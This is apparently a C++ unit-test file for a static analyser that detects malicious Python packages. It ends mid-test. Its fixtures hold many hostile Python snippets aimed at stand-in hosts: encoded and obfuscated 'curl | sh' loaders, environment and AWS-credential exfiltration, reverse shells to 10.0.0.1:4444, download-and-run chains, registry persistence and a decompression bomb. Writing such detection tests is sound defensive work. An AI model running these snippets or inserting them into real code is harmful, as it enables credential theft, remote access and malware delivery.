// One-line rule tests over synthetic Python sources: behaviours, flows,
// decoded payloads and concealment signals, each through the whole Python
// pass (parse -> resolve/fold with the decoders -> rules).
#include "analysis/python_analysis.h"

#include <gtest/gtest.h>

#include <algorithm>

#include "analysis/rules.h"
#include "support/python_rules.h"
#include "util/gzip.h"

namespace pyward {
namespace {

using testing::Analyze;
using testing::Find;
using testing::Rules;

std::string Rules(const std::vector<Finding>& fs) {
  std::string s;
  for (const Finding& f : fs) s += f.rule + "(" + std::string(SeverityName(f.severity)) + ") ";
  return s;
}

// The finding of `rule` for `code`, with at least `min` severity.
::testing::AssertionResult HasFinding(std::string_view code, std::string_view rule,
                                      Severity min = Severity::kInfo,
                                      Phase phase = Phase::kImport, bool install = false) {
  auto fs = Analyze(code, phase, install);
  const Finding* f = Find(fs, rule);
  if (!f) return ::testing::AssertionFailure() << "no " << rule << " in: " << Rules(fs);
  if (f->severity < min)
    return ::testing::AssertionFailure() << rule << " is only " << SeverityName(f->severity);
  return ::testing::AssertionSuccess();
}

#define ExpectFinding(code, ...) EXPECT_TRUE(HasFinding(code, __VA_ARGS__))
#define ExpectNoFinding(code, rule) \
  EXPECT_EQ(Find(Analyze(code), rule), nullptr) << Rules(Analyze(code))

// --- Decoded payloads (issue 4) --------------------------------------------
const char kB64[] =
    "aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCBodHRwOi8vZXhhbXBsZS5pbnZhbGlkL3guc2ggfCBzaCcpCg==";
const char kZlibB64[] =
    "eJzLzC3ILypRyC/myi/WK64sLknN1VBPLi3KUcgoKSmw0tdPrUjMLchJ1cvMK0vMyUzRr9ArzlCoUSjOUNfkAgC4gxV8";

TEST(Payloads, ExecOfBase64IsDecodedAndJudged) {
  auto fs = Analyze(std::string("import base64\nexec(base64.b64decode('") + kB64 + "'))\n");
  const Finding* decoded = Find(fs, "payload-decoded");
  ASSERT_NE(decoded, nullptr) << Rules(fs);
  EXPECT_EQ(decoded->chain, "base64 -> exec");
  EXPECT_NE(decoded->decoded.find("os.system"), std::string::npos);
  const Finding* dl = Find(fs, "download-exec");
  ASSERT_NE(dl, nullptr) << Rules(fs);
  EXPECT_EQ(dl->file, "pkg/__init__.py#2");
  EXPECT_EQ(dl->chain, "base64 -> exec");
  EXPECT_EQ(dl->severity, Severity::kCritical);
  ExpectFinding(std::string("import base64\nexec(base64.b64decode('") + kB64 + "'))\n",
                "exec-decoded", Severity::kCritical);
}

TEST(Payloads, UnpackOffLeavesPayloadsEncoded) {
  // The switch scan_bench measures unpacking with: nothing is decoded, folded
  // through a decoder or unwrapped blind, and the rest of the pass still runs.
  PythonEngines off = Rules().python_engines();
  off.unpack = false;
  std::string code = std::string("import base64, os\nexec(base64.b64decode('") + kB64 +
                     "'))\nx = '" + kB64 + "'\nos.system('curl http://example.invalid/x | sh')\n";
  PythonSource src;
  src.path = "pkg/__init__.py";
  src.text = code;
  src.phase = Phase::kImport;
  std::vector<Finding> fs;
  AnalyzePython(off, src, &fs);
  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);
  EXPECT_EQ(Find(fs, "exec-decoded"), nullptr) << Rules(fs);
  for (const Finding& f : fs) EXPECT_EQ(f.file, "pkg/__init__.py") << f.rule;
  EXPECT_NE(Find(fs, "network-at-import"), nullptr) << Rules(fs);
  EXPECT_NE(Find(Analyze(code), "payload-decoded"), nullptr);
}

TEST(Payloads, AliasesAndBuiltinsLookups) {
  ExpectFinding(std::string("from base64 import b64decode as d\ne = eval\nexec(d('") + kB64 + "'))\n",
                "download-exec");
  ExpectFinding(std::string("import zlib, base64\ngetattr(__builtins__, 'ex'+'ec')(zlib.decompress("
                            "base64.b64decode('") + kZlibB64 + "')))\n",
                "exec-decoded");
  ExpectFinding(std::string("import base64\nglobals()['exec'](base64.b64decode('") + kB64 + "'))\n",
                "download-exec");
  ExpectFinding(std::string("b = __import__('ba'+'se64')\nx = '") + kB64 +
                    "'\nexec(b.b64decode(x))\n",
                "download-exec");
}

TEST(Payloads, ZlibChainIsShown) {
  auto fs = Analyze(std::string("import zlib, base64\nexec(zlib.decompress(base64.b64decode('") +
                    kZlibB64 + "')))\n");
  const Finding* dl = Find(fs, "download-exec");
  ASSERT_NE(dl, nullptr) << Rules(fs);
  EXPECT_EQ(dl->chain, "base64 -> zlib -> exec");
}

TEST(Payloads, FiveLayersBlind) {
  // zlib -> base64 -> bz2 -> base32 -> lzma -> base64, left as a loose string.
  const char blob[] =
      "/Td6WFoAAATm1rRGAgAhARYAAAB0L+Wj4ADPAK5dACSShf3aVAYd6Wpm6nU62Lyr6v21TirI07GbyjHSNGgzDS2C7Zf04NeU"
      "z3+3RIuv+14Sf0jV7xHPnr+cf5eH0fwlkVPYK7zU2agDlC1Io5K6t75jzgSK9XdAKcAGBxMrw2ZSGPYr0ocBL255IMZ1ae7c"
      "oriFqlcwYlDD0tm9k5Izqx14XSTz+ysuOahFgq5LcxzwjbHzcpnrZMD5VHUyGR38rP9DgTQX8qcs4Iae4AAAAAiIfwU8sioF"
      "AAHKAdABAAARE9BpscRn+wIAAAAABFla";
  auto fs = Analyze(std::string("DATA = '") + blob + "'\nrun(DATA)\n");
  const Finding* dl = Find(fs, "download-exec");
  ASSERT_NE(dl, nullptr) << Rules(fs);
  EXPECT_EQ(std::count(dl->chain.begin(), dl->chain.end(), '>'), 5) << dl->chain;
}

TEST(Payloads, HexRot13AndReversedStrings) {
  ExpectFinding(
      "exec(bytes.fromhex('696d706f7274206f730a6f732e73797374656d28276375726c20687474703a2f2f6578616d"
      "706c652e696e76616c69642f782e7368207c20736827290a'))\n",
      "download-exec");
  ExpectFinding(
      "import codecs\nexec(codecs.decode('vzcbeg bf\\nbf.flfgrz(\\'phey uggc://rknzcyr.vainyvq/k.fu "
      "| fu\\')\\n', 'rot13'))\n",
      "download-exec");
  ExpectFinding("import os\nos.system(')hs | hs.x/dilavni.elpmaxe//:ptth lruc'[::-1])\n",
                "download-exec");
  ExpectFinding("import os\nos.system(''.join(chr(c) for c in [99,117,114,108,32,104,116,116,112,"
                "58,47,47,120,32,124,32,115,104]))\n",
                "download-exec");
}

TEST(Payloads, FernetWithKeyInCode) {
  ExpectFinding(
      "from cryptography.fernet import Fernet\n"
      "k = b'aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789_-abcde='\n"
      "exec(Fernet(k).decrypt(b'gAAAAABrA6W8kaem7CHMf-q4O88ICXN0inSb03s64xMwgEulB2HB-Sse-FmCOTcAgOfGXm"
      "gFw87Q8qJ8r3I0IDcOpBIXUdOEetTGonISBTSnQ-8v3bxaZ5Yq8oPy7LTgYjVoeB2MAdgSZtFqoKLvqE6G1rm7ViR_gw=='"
      "))\n",
      "download-exec", Severity::kCritical);
}

TEST(Payloads, PowerShellEncodedCommand) {
  auto fs = Analyze(
      "import subprocess\nsubprocess.Popen(['powershell', '-EncodedCommand', "
      "'SQBuAHYAbwBrAGUALQBXAGUAYgBSAGUAcQB1AGUAcwB0ACAALQBVAHIAaQAgAGgAdAB0AHAAOgAvAC8AZQB4AGEAbQBw"
      "AGwAZQAuAGkAbgB2AGEAbABpAGQALwBhAC4AZQB4AGUAIAAtAE8AdQB0AEYAaQBsAGUAIAAkAGUAbgB2ADoAVABFAE0A"
      "UABcAGEALgBlAHgAZQA7ACAAUwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgACQAZQBuAHYAOgBUAEUATQBQAFwAYQAu"
      "AGUAeABlAA=='])\n");
  const Finding* dl = Find(fs, "download-exec");
  ASSERT_NE(dl, nullptr) << Rules(fs);
  EXPECT_NE(dl->chain.find("powershell -enc"), std::string::npos);
}

TEST(Payloads, MarshalCodeObjectsAreRecognised) {
  auto fs = Analyze(
      "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode("
      "'eJx7zIAEmKH0Zz0gMZ0hhSGFMYchioGJIZUhixGmKIVpGZC9Gs5nBKoKZtBkfgni+N1irNBkusWUX3yLrbiyuCQ1dy"
      "XDZ5DEL2abYrtfHDa5+SmlOal2RZxgnQwMxYpA4gMzIyPjDQbOBjAEMZhaODuUG/la+BrAsIgdqAoAedIhfw=='))))\n");
  const Finding* d = Find(fs, "payload-decoded");
  ASSERT_NE(d, nullptr) << Rules(fs);
  EXPECT_NE(d->chain.find("marshal"), std::string::npos);
  EXPECT_NE(d->decoded.find("system"), std::string::npos);
  ASSERT_NE(Find(fs, "exec-decoded"), nullptr);
}

TEST(Payloads, BombInAStringIsRefused) {
  // 64 MB of zeros, gzip-compressed to a few dozen KB, past the 8 MB limit
  // of one decode step: nothing decodes, and nothing is allocated for it.
  std::string bomb, err;
  ASSERT_TRUE(Gzip(std::string(64 << 20, '\0'), &bomb, &err)) << err;
  static const char kHex[] = "0123456789abcdef";
  std::string hex;
  for (unsigned char c : bomb) {
    hex += kHex[c >> 4];
    hex += kHex[c & 15];
  }
  auto fs = Analyze("import gzip\nexec(gzip.decompress(bytes.fromhex('" + hex + "')))\n");
  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);
  EXPECT_EQ(Find(fs, "exec-decoded"), nullptr) << Rules(fs);
}

// --- Behaviours and flows (issue 5) ----------------------------------------
TEST(Behaviour, EnvironmentSentOut) {
  ExpectFinding(
      "import os, urllib.request, urllib.parse\n"
      "data = dict(os.environ)\n"
      "body = urllib.parse.urlencode(data).encode()\n"
      "req = urllib.request.Request('https://collector.example/c', data=body)\n"
      "urllib.request.urlopen(req)\n",
      "exfiltration", Severity::kCritical);
}

TEST(Behaviour, HostFactsInAQueryString) {
  ExpectFinding(
      "import requests, socket, getpass\n"
      "info = {'h': socket.gethostname(), 'u': getpass.getuser()}\n"
      "requests.get('https://x.example/', params=info)\n",
      "exfiltration", Severity::kHigh);
}

TEST(Behaviour, FlowThroughFunctionReturnAndFString) {
  auto fs = Analyze(
      "import os, requests, base64\n"
      "def grab():\n"
      "    return open(os.path.expanduser('~/.aws/credentials')).read()\n"
      "def send():\n"
      "    payload = base64.b64encode(grab().encode())\n"
      "    requests.post(f'https://x.example/{payload}')\n"
      "send()\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Rules(fs);
  EXPECT_EQ(f->severity, Severity::kCritical);
  EXPECT_NE(f->message.find("grab()"), std::string::npos) << f->message;
}

TEST(Behaviour, SecretOnlyInAFunctionNobodyCallsWeighsLess) {
  auto fs = Analyze(
      "import os, requests\n"
      "def report():\n"
      "    requests.post('https://x.example/', json=dict(os.environ))\n");
  const Finding* f = Find(fs, "exfiltration");
  ASSERT_NE(f, nullptr) << Rules(fs);
  // The whole environment over the network: one step less (see
  // WholeEnvironmentSentFromAMethod); other secrets two.
  EXPECT_LT(f->severity, Severity::kCritical);
  EXPECT_EQ(f->phase, Phase::kRuntime);
}

TEST(Behaviour, DownloadThenRun) {
  ExpectFinding(
      "import urllib.request, os\n"
      "urllib.request.urlretrieve('https://x.example/a.exe', 'a.exe')\n"
      "os.startfile('a.exe')\n",
      "download-exec", Severity::kCritical);
  ExpectFinding(
      "import requests, subprocess, os\n"
      "r = requests.get('https://x.example/p')\n"
      "with open('p.exe', 'wb') as f:\n"
      "    f.write(r.content)\n"
      "subprocess.Popen('p.exe')\n",
      "download-exec", Severity::kCritical);
  ExpectFinding(
      "import requests\nexec(requests.get('https://x.example/c.py').text)\n",
      "exec-remote", Severity::kCritical);
}

TEST(Behaviour, ImportTimeNetworkAndProcesses) {
  ExpectFinding("import requests\nrequests.get('https://x.example/ping')\n", "network-at-import");
  ExpectNoFinding("import requests\ndef ping():\n    requests.get('https://x.example/ping')\n",
                  "network-at-import");
  ExpectNoFinding(
      "import requests\nif __name__ == '__main__':\n    requests.get('https://x.example/')\n",
      "network-at-import");
  // Starting a process merely by being imported weighs as much as talking to
  // the network then: suspicious on its own.
  ExpectFinding("import subprocess\ndef go():\n    subprocess.run(['ls'])\ngo()\n",
                "process-at-import", Severity::kHigh);
  ExpectFinding(
      "import threading, subprocess\ndef go():\n    subprocess.run(['ls'])\n"
      "threading.Thread(target=go).start()\n",
      "process-at-import");
}

TEST(Behaviour, ReverseShell) {
  ExpectFinding(
      "import socket, os, pty\n"
      "s = socket.socket()\ns.connect(('10.0.0.1', 4444))\n"
      "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\npty.spawn('/bin/sh')\n",
      "reverse-shell", Severity::kCritical);
  ExpectFinding("import os\nos.system('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1')\n",
                "reverse-shell");
}

TEST(Behaviour, PersistenceHiddenLaunchAndPip) {
  ExpectFinding(
      "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, "
      "'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, winreg.KEY_SET_VALUE)\n"
      "winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
      "persistence");
  ExpectFinding("import subprocess\nsubprocess.Popen(['pythonw', 'x.py'])\n", "launch-hidden");
  ExpectFinding(
      "import subprocess, sys\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', "
      "'x'])\n",
      "runtime-pip-install", Severity::kHigh);
}

TEST(Behaviour, HelpersThatSendOrDecode) {
  // A module's own helper that hands its parameter to the network is a sink.
  ExpectFinding(
      "import getpass, urllib.request\n"
      "def post(url, data):\n"
      "    return urllib.request.urlopen(urllib.request.Request(url, data=data)).read()\n"
      "post('https://x.example/', data=getpass.getuser().encode())\n",
      "exfiltration", Severity::kHigh);
  // A helper that decodes: its result run as a command is a hidden command.
  ExpectFinding(
      "import base64, os\n"
      "def d(s):\n"
      "    b = base64.b64decode(s.encode())\n"
      "    return b.decode()\n"
      "os.system(d(input()))\n",
      "exec-dynamic", Severity::kHigh);
}

TEST(Behaviour, DecodedCodeRunAnywhereKeepsItsWeight) {
  ExpectFinding("import base64\ndef f(x):\n    return x\nexec(base64.b64decode(f('a')))\n", "exec-dynamic",
                Severity::kHigh, Phase::kRuntime);
  ExpectFinding("import base64\ndef f(x):\n    return x\ndef g():\n    exec(base64.b64decode(f('a')))\n",
                "exec-dynamic", Severity::kHigh, Phase::kRuntime);
  // Code merely built at run time, in a function of a runtime module: not reported.
  auto fs = Analyze("def g(name):\n    exec('import ' + name)\n", Phase::kRuntime);
  EXPECT_EQ(Find(fs, "exec-dynamic"), nullptr) << Rules(fs);
}

TEST(Behaviour, ExtensionManifestBuiltAndWrittenAtInstall) {
  // '"permissions": ["clipboardRead"]' from character codes, written by setup.py.
  std::string codes;
  for (char c : std::string("\"permissions\": [\"clipboardRead\"]"))
    codes += (codes.empty() ? "" : ", ") + std::to_string(int(c));
  auto fs = Analyze("f = open('m.json', 'w')\nf.write(''.join(map(chr, [" + codes + "])))\n",
                             Phase::kInstall, true);
  const Finding* f = Find(fs, "indicator-browser-extension");
  ASSERT_NE(f, nullptr) << Rules(fs);
  EXPECT_EQ(f->severity, Severity::kHigh);
  EXPECT_EQ(f->phase, Phase::kInstall);
}

TEST(Behaviour, AddressSplitIntoHostAndRequestPath) {
  auto fs = Analyze("import http.client\nc = http.client.HTTPSConnection('pastebin.com')\n"
                    "c.request('GET', '/ra' + 'w/abc')\n", Phase::kImport);
  const Finding* f = Find(fs, "indicator-paste");
  ASSERT_NE(f, nullptr) << Rules(fs);
  EXPECT_EQ(f->line, 3);
  auto plain = Analyze("import http.client\nc = http.client.HTTPSConnection('example.org')\n"
                       "c.request('GET', '/raw/abc')\n", Phase::kImport);
  EXPECT_EQ(Find(plain, "indicator-paste"), nullptr) << Rules(plain);
}

TEST(Payloads, CommandsTheFolderDecodesAreReachedPayloads) {
  for (const char* code :
       {"import os, base64\nos.system(base64.b64decode('ZWNobyBoZWxsbyBmcm9tIGEgZGVjb2RlZCBjb21tYW5k').decode())\n",
        "import os, base64\ndef d(s):\n    b = base64.b64decode(s)\n    return b.decode()\n"
        "os.system(d('ZWNobyBoZWxsbyBmcm9tIGEgZGVjb2RlZCBjb21tYW5k'))\n"}) {
    auto fs = Analyze(code);
    const Finding* f = Find(fs, "payload-decoded");
    ASSERT_NE(f, nullptr) << code << Rules(fs);
    EXPECT_EQ(f->chain, "base64 -> process") << code;
    EXPECT_NE(f->decoded.find("echo hello"), std::string::npos) << code;
  }
}

TEST(Behaviour, ExecOfTextDecodedInALoop) {
  ExpectFinding("run = exec\nd = '\\x01\\x02'\nk = '123'\ns = ''\nfor i in range(len(d)):\n"
                "    s += chr(ord(d[i]) ^ ord(k[i % 3]))\nrun(s)\n",
                "exec-dynamic", Severity::kHigh);
}

TEST(Behaviour, ExecOfComputedCode) {
  ExpectFinding("import base64\ndef f(x):\n    return x\nexec(base64.b64decode(f('a')))\n",
                "exec-dynamic");
}

TEST(Behaviour, HostFactsSentByTopLevelCodeOfAnyModule) {
  ExpectFinding("import requests, getpass\nrequests.post('https://x.example', data=getpass.getuser())\n",
                "exfiltration", Severity::kCritical, Phase::kRuntime);
  // The same in a function of a runtime module is no beacon: two steps less.
  auto in_def = Analyze("import requests, getpass\ndef f():\n"
                        "    requests.post('https://x.example', data=getpass.getuser())\n",
                        Phase::kRuntime);
  ASSERT_NE(Find(in_def, "exfiltration"), nullptr) << Rules(in_def);
  EXPECT_LE(Find(in_def, "exfiltration")->severity, Severity::kMedium);
  // A setting read from the environment is not a host fact: one step less.
  auto fs = Analyze("import os, requests\nrequests.post(os.environ['URL'], data='x')\n", Phase::kRuntime);
  ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
  EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
}

TEST(Behaviour, FilesWrittenThenStarted) {
  ExpectFinding("import os\nopen(os.environ['APPDATA'] + '\\\\x.pyw', 'w').write(CODE)\n"
                "os.startfile(os.environ['APPDATA'] + '\\\\x.pyw')\n",
                "drop-executable", Severity::kHigh);
  ExpectFinding("import os, tempfile, sys\nt = tempfile.NamedTemporaryFile(delete=False)\n"
                "t.write(CODE)\nos.system(f'start {sys.executable} {t.name}')\n",
                "drop-executable", Severity::kHigh);
  // A file written and a process started that has nothing to do with it.
  ExpectNoFinding("import os\nopen('log.txt', 'w').write('x')\nos.system('ls')\n", "drop-executable");
}

TEST(Behaviour, DownloadingCommandsAndPythonLaunchedAtImport) {
  ExpectFinding("import subprocess\nsubprocess.Popen('curl http://x.example/a.exe -o a.exe', shell=True)\n"
                "subprocess.Popen(['C:/a.exe'])\n",
                "download-exec", Severity::kHigh);
  ExpectFinding("import os\nos.system('curl.exe -OLJ https://x.example/m.exe')\nos.system('m.exe -w 1')\n",
                "download-exec", Severity::kHigh, Phase::kRuntime);
  ExpectFinding("import os, requests\ndef f():\n    r = requests.get('https://x.example/s.exe')\n"
                "    open(f'C://K//s.exe', 'wb').write(r.content)\n"
                "    os.system('start cmd.exe /c start C://K//s.exe')\n",
                "download-exec", Severity::kHigh, Phase::kRuntime);
  ExpectFinding("import os\nos.popen(f\"curl -s http://x.example/{os.getcwd()}\")\n", "network-at-import");
  ExpectFinding("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n",
                "process-at-import", Severity::kCritical);
  ExpectFinding("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n",
                "process-at-import", Severity::kHigh);
  // A script file, not code on the command line: high, not critical.
  auto script = Analyze("import subprocess, sys\nsubprocess.Popen([sys.executable, 'x.py'])\n");
  ASSERT_NE(Find(script, "process-at-import"), nullptr) << Rules(script);
  EXPECT_EQ(Find(script, "process-at-import")->severity, Severity::kHigh);
  // Any process started merely by importing is worth a look (high), but the
  // message tells an interpreter launch from an ordinary command.
  auto fs = Analyze("import subprocess\nsubprocess.call(['git', 'describe'])\n");
  ASSERT_NE(Find(fs, "process-at-import"), nullptr) << Rules(fs);
  EXPECT_EQ(Find(fs, "process-at-import")->severity, Severity::kHigh);
  EXPECT_EQ(Find(fs, "process-at-import")->message.find("Python"), std::string::npos);
}

// A download that is started is critical, not high, when what the module
// fetches and starts is a Windows program it names; other downloads keep
// their severity.
TEST(Behaviour, DownloadedWindowsProgramStartedIsCritical) {
  auto sev = [](std::string_view code) { return testing::SeverityOf(code, "download-exec"); };
  auto critical = [&](std::string_view code) { return sev(code) == Severity::kCritical; };
  EXPECT_TRUE(critical("import os, requests\ndef f():\n    r = requests.get('https://x.example/d')\n"
                       "    open('C://K//svc.exe', 'wb').write(r.content)\n"
                       "    os.system('start C://K//svc.exe')\n"));
  EXPECT_TRUE(critical("import os, subprocess, urllib.request\ndef f(url):\n"
                       "    p = os.path.join('d', 'helper.exe')\n"
                       "    urllib.request.urlretrieve(url, p)\n    subprocess.run([p])\n"));
  EXPECT_TRUE(critical("import os\nos.system('curl.exe -OLJ https://x.example/m.exe')\n"
                       "os.system('m.exe -w 1')\n"));
  // The same downloads of a script or an archive: still high.
  EXPECT_EQ(sev("import os, subprocess, urllib.request\ndef f(url):\n"
                "    p = os.path.join('d', 'tool.sh')\n"
                "    urllib.request.urlretrieve(url, p)\n    subprocess.run(['sh', p])\n"),
            Severity::kHigh);
  // "exe" inside a word or a domain is no program name.
  EXPECT_EQ(sev("import os, subprocess, urllib.request\ndef f(url):\n"
                "    p = os.path.join('d', 'tool.exe_backup.sh')\n"
                "    urllib.request.urlretrieve('https://exe.example/t', p)\n    subprocess.run(['sh', p])\n"),
            Severity::kHigh);
}

// Code handed to a second interpreter with -c at import time: constant code
// that imports only the standard library is analysed as a layer and judged
// by what it does (the start itself stays low); code that imports another
// package, or that is built at run time, keeps the start critical.
TEST(Behaviour, InlinePythonAtImportIsJudgedByItsCode) {
  auto at = [](std::string_view code) {
    auto fs = Analyze(code);
    const Finding* f = Find(fs, "process-at-import");
    return f ? f->severity : Severity::kInfo;
  };
  EXPECT_EQ(at("import subprocess, sys\n"
               "subprocess.run([sys.executable, '-c', 'import sys; print(sys.prefix)'])\n"),
            Severity::kLow);
  EXPECT_EQ(at("import subprocess, sys\nCODE = 'import sysconfig; print(sysconfig.get_paths())'\n"
               "subprocess.check_output([sys.executable, '-c', CODE])\n"),
            Severity::kLow);
  auto probe = Analyze("import subprocess, sys\n"
                       "subprocess.run([sys.executable, '-c', 'import sys; print(sys.prefix)'])\n");
  for (const Finding& f : probe) EXPECT_LT(f.severity, Severity::kMedium) << Rules(probe);
  // Harmful constant code: the layer's own findings carry it.
  auto harmful = Analyze("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
                         "\"import os; os.system('curl http://x.example/a | sh')\"])\n");
  const Finding* dl = Find(harmful, "download-exec");
  ASSERT_NE(dl, nullptr) << Rules(harmful);
  EXPECT_GE(dl->severity, Severity::kHigh);
  // Another package imported in a detached interpreter, code built at run
  // time, and code that does not parse: critical as before.
  EXPECT_EQ(at("import subprocess\nsubprocess.Popen(['python3', '-c', 'import other'])\n"),
            Severity::kCritical);
  EXPECT_EQ(at("import subprocess\nsubprocess.Popen(['python3', '-c', "
               "\"import warnings; warnings.filterwarnings('ignore'); from other import x\"])\n"),
            Severity::kCritical);
  EXPECT_EQ(at("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', "
               "\"__import__('o'+'s').system('id')\"])\n"),
            Severity::kCritical);
  EXPECT_EQ(at("import subprocess, sys\ncode = open('x').read()\n"
               "subprocess.Popen([sys.executable, '-c', code])\n"),
            Severity::kCritical);
  EXPECT_EQ(at("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import ('])\n"),
            Severity::kCritical);
}

// The process's environment read from /proc is secret data like os.environ.
TEST(Behaviour, ProcEnvironFileSentOut) {
  ExpectFinding("import requests\nwith open('/proc/self/environ', 'rb') as f:\n"
                "    d = f.read()\nrequests.post('https://x.example/', data={'e': d})\n",
                "exfiltration", Severity::kHigh, Phase::kRuntime);
  ExpectNoFinding("import requests\nwith open('/proc/self/status') as f:\n"
                  "    d = f.read()\nrequests.post('https://x.example/', data={'e': d})\n",
                  "exfiltration");
}

TEST(Behaviour, WholeEnvironmentSentFromAMethod) {
  ExpectFinding("import os, requests\nclass C:\n    def send(self):\n        s = ''\n"
                "        for k, v in os.environ.items():\n            s += v\n"
                "        requests.get('https://x.example/' + s)\n",
                "exfiltration", Severity::kHigh, Phase::kRuntime);
  // The whole environment base64- or hex-encoded before it goes out keeps
  // its weight; encoding something else beside it does not.
  for (const char* enc : {"base64.b64encode(s.encode())", "binascii.hexlify(s.encode())"})
    ExpectFinding(std::string("import os, requests, base64, binascii\nclass C:\n"
                              "    def send(self):\n        s = ''\n"
                              "        for k, v in os.environ.items():\n            s += v\n"
                              "        e = ") + enc + "\n"
                      "        requests.get('https://x.example/' + e.decode())\n",
                  "exfiltration", Severity::kCritical, Phase::kRuntime);
  auto other = Analyze("import os, requests, base64\nclass C:\n    def send(self):\n"
                       "        tag = base64.b64encode(b'client')\n"
                       "        requests.post('https://x.example/', json=dict(os.environ), "
                       "headers={'t': tag})\n", Phase::kRuntime);
  ASSERT_NE(Find(other, "exfiltration"), nullptr) << Rules(other);
  EXPECT_EQ(Find(other, "exfiltration")->severity, Severity::kHigh);
  // One secret variable given to its own service from a function: two steps less.
  auto fs = Analyze("import os, requests\ndef q():\n    requests.get('https://api.example', "
                    "params={'key': os.environ['API_KEY']})\n", Phase::kRuntime);
  ASSERT_NE(Find(fs, "exfiltration"), nullptr) << Rules(fs);
  EXPECT_EQ(Find(fs, "exfiltration")->severity, Severity::kMedium);
}

TEST(Behaviour, HostFactsThroughFunctionReferencesAndTlsSockets) {
  ExpectFinding("import os, json, urllib.request\ndef t(f):\n    return f()\n"
                "d = json.dumps({'c': t(os.getcwd)})\nurllib.request.urlopen('https://x.example/?' + d)\n",
                "exfiltration", Severity::kCritical);
  ExpectFinding("import ssl, socket\nctx = ssl.SSLContext(ssl.PROTOCOL_TLSv1_2)\n"
                "s = ctx.wrap_socket(socket.socket(), server_hostname='x.example')\n"
                "s.send(socket.gethostname().encode())\n",
                "exfiltration", Severity::kCritical);
}

TEST(Behaviour, IndicatorsInStringsBuiltAtRunTime) {
  ExpectFinding("import requests\nrequests.post(''.join(map(chr, [104,116,116,112,115,58,47,47,100,105,115,99,111,114,100,46,99,111,109,47,97,112,105,47,119,101,98,104,111,111,107,115,47,49,47,97])), json={})\n",
                "indicator-webhook", Severity::kHigh, Phase::kImport);
}

TEST(Behaviour, NetworkAddressHiddenInAnEncodedLiteral) {
  ExpectFinding("import base64, requests\nrequests.post(url=base64.b64decode('aHR0cHM6Ly94LmV4YW1wbGUvYQ==')"
                ".decode(), json={})\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);
  ExpectNoFinding("import requests\nrequests.post('https://x.example/a', json={})\n", "hidden-destination");
  // Data the code computes, sent to the hidden address: critical; a literal body stays high.
  auto lit = Analyze("import base64, requests\nrequests.post(url=base64.b64decode("
                     "'aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), json={})\n");
  ASSERT_NE(Find(lit, "hidden-destination"), nullptr);
  EXPECT_EQ(Find(lit, "hidden-destination")->severity, Severity::kHigh);
  ExpectFinding("import base64, requests\ndef f(data):\n    requests.post(url=base64.b64decode("
                "'aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), json=data)\n",
                "hidden-destination", Severity::kCritical, Phase::kRuntime);
  ExpectFinding("import base64, requests\ndef f(data):\n    requests.post(base64.b64decode("
                "'aHR0cHM6Ly94LmV4YW1wbGUvYQ==').decode(), {'k': data})\n",
                "hidden-destination", Severity::kCritical, Phase::kRuntime);
  // An encoded web address handed on through parameters.
  ExpectFinding("import base64\ndef f(a='aHR0cHM6Ly9maWxlcy5leGFtcGxlLm5ldC91cGxvYWQvYXJjaGl2ZQ=='):\n    g(a)\n",
                "hidden-destination", Severity::kHigh, Phase::kRuntime);
  ExpectNoFinding("A = 'c2VlIGh0dHBzOi8veC5leGFtcGxlL2EgZm9yIG1vcmUgZGV0YWlscw=='\n", "hidden-destination");  // text, not an address
  ExpectFinding("H = 'Y29sbGVjdG9yLmV4YW1wbGUubmV0Ojg0NDMvdXBsb2FkL3Yy'\n", "hidden-destination", Severity::kHigh, Phase::kRuntime);  // host:port/path
}

TEST(Behaviour, HiddenAddressDecodedToBytesOrLookedUp) {
  // The decoded address stays bytes (requests takes bytes URLs), through
  // variables and re-assignments.
  ExpectFinding("import base64, requests\ndef f(t):\n    h = 'aHR0cHM6Ly94LmV4YW1wbGUvaG9vay8xMjM0NTY='\n"
                "    u = h.encode('ascii')\n    u = base64.b64decode(u)\n    requests.post(u, json={'t': t})\n",
                "hidden-destination", Severity::kHigh, Phase::kRuntime);
  // A host name resolved in DNS from an encoded literal: the lookup is the beacon.
  ExpectFinding("import base64, socket\nsocket.gethostbyname(base64.b64decode('d3d3LmV4YW1wbGUubmV0'))\n",
                "hidden-destination", Severity::kHigh, Phase::kInstall, /*install=*/true);
  ExpectNoFinding("import socket\nsocket.gethostbyname(socket.gethostname())\n", "hidden-destination");
  ExpectNoFinding("import socket\nsocket.gethostbyname('www.example.net')\n", "hidden-destination");
}

TEST(Behaviour, CodeWrittenToAFileIsAnalysed) {
  // A script written out and started: its own code is judged.
  auto fs = Analyze("import os\ndef f():\n    open('/tmp/x.py', 'w').write('import os, urllib.request\\n"
                    "urllib.request.urlretrieve(\"https://x.example/a.sh\", \"/tmp/.a.sh\")\\n"
                    "os.system(\"bash /tmp/.a.sh\")\\n')\n    os.system('python3 /tmp/x.py &')\n",
                    Phase::kRuntime);
  const Finding* dl = Find(fs, "download-exec");
  ASSERT_NE(dl, nullptr) << Rules(fs);
  EXPECT_EQ(dl->chain, "written to a file");
  EXPECT_EQ(Find(fs, "payload-decoded"), nullptr) << Rules(fs);  // written out, not hidden
  // A temporary file given code that runs what it downloads.
